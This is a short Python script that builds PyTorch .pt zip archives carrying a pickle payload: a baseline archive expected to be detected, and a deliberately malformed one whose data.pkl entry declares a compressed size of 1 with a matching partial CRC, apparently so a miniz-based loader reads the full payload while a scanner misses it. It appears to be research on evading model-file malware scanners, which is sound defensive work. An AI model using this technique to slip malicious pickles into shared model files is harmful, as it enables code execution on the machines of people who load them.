from zipmk import *
import struct, zlib
# baseline: plain torch zip with payload, should be caught
open("base_torch.pt","wb").write(build(torch_members(payload("base"))))
# stored data.pkl: CD csize=1, usize=len (miniz reads usize bytes for stored when time!=0)
p = payload("stored_usize")
ms = [dict(name="archive/byteorder", data=b"little"), dict(name="archive/version", data=b"3\n"),
      dict(name="archive/data.pkl", data=p, raw=p, csize=1, lcsize=1, crc=zlib.crc32(p[:1]))]
open("fn_torch_stored_usize.pt","wb").write(build(ms))
